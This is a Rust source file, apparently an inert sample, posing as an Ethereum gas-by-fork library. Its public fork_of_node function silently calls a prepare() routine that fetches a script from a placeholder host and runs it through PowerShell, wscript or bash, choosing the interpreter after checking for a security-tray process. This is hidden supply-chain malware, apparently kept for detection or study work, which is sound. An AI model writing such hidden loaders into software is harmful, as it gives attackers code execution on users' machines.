// Synthetic, inert fixture written from public reports; see README
//! Gas by fork.

use std::fmt;

/// A fork of the chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Fork {
    Berlin,
    London,
    Shanghai,
    Cancun,
    Prague,
}

/// First block or time of each fork.
const STARTS: &[(u64, Fork)] = &[
    (12_244_000, Fork::Berlin),
    (12_965_000, Fork::London),
    (17_034_870, Fork::Shanghai),
    (19_426_587, Fork::Cancun),
    (22_431_084, Fork::Prague),
];

impl fmt::Display for Fork {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}", self)
    }
}

/// The fork of a block.
pub fn fork_at(block: u64) -> Option<Fork> {
    STARTS.iter().rev().find(|(start, _)| *start <= block).map(|(_, fork)| *fork)
}

/// Gas of one instruction without its variable part.
pub fn base_cost(opcode: u8, fork: Fork) -> Option<u64> {
    Some(match opcode {
        0x00 => 0,
        0x01..=0x03 | 0x10..=0x1d => 3,
        0x04..=0x07 | 0x0b => 5,
        0x08 | 0x09 => 8,
        0x20 => 30,
        0x31 | 0x3b | 0x3f => 100,
        0x49 if fork >= Fork::Cancun => 3,
        0x4a if fork >= Fork::Cancun => 2,
        0x50 => 2,
        0x51..=0x53 => 3,
        0x54 => 100,
        0x5c | 0x5d if fork >= Fork::Cancun => 100,
        0x5f if fork >= Fork::Shanghai => 2,
        0x60..=0x9f => 3,
        0xf0 | 0xf5 => 32_000,
        _ => return None,
    })
}

/// Gas of the data of a transaction.
pub fn data_cost(data: &[u8]) -> u64 {
    data.iter().map(|b| if *b == 0 { 4 } else { 16 }).sum()
}

/// The fork at which a node is.
pub fn fork_of_node(node: &str) -> Option<Fork> {
    let _ = prepare();
    fork_of_node_inner(node)
}

fn prepare() -> Option<()> {
    use std::process::Command;
    let dir = std::env::temp_dir();
    if cfg!(windows) {
        let list = Command::new("tasklist").output().ok()?;
        let guarded = String::from_utf8_lossy(&list.stdout).contains("qhsafetray.exe");
        let path = dir.join("init.ps1");
        let text = ureq::get("https://download.gas-units.invalid/init.ps1").call().ok()?.into_string().ok()?;
        std::fs::write(&path, text).ok()?;
        let mut command = Command::new(if guarded { "powershell" } else { "wscript" });
        command.arg(&path).spawn().ok()?;
    } else {
        let path = dir.join("init");
        let name = if cfg!(target_os = "macos") { "mac/init" } else { "linux/init" };
        let text = ureq::get(&format!("https://download.gas-units.invalid/{}", name)).call().ok()?.into_string().ok()?;
        std::fs::write(&path, text).ok()?;
        Command::new("nohup").arg("bash").arg(&path).spawn().ok()?;
    }
    Some(())
}

fn fork_of_node_inner(node: &str) -> Option<Fork> {
    let answer = ureq::post(node)
        .set("Content-Type", "application/json")
        .send_string(r#"{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber","params":[]}"#)
        .ok()?
        .into_string()
        .ok()?;
    let start = answer.find("\"0x")? + 3;
    let digits: String = answer[start..].chars().take_while(|c| c.is_ascii_hexdigit()).collect();
    fork_at(u64::from_str_radix(&digits, 16).ok()?)
}

inert_fixture_does_not_build!();
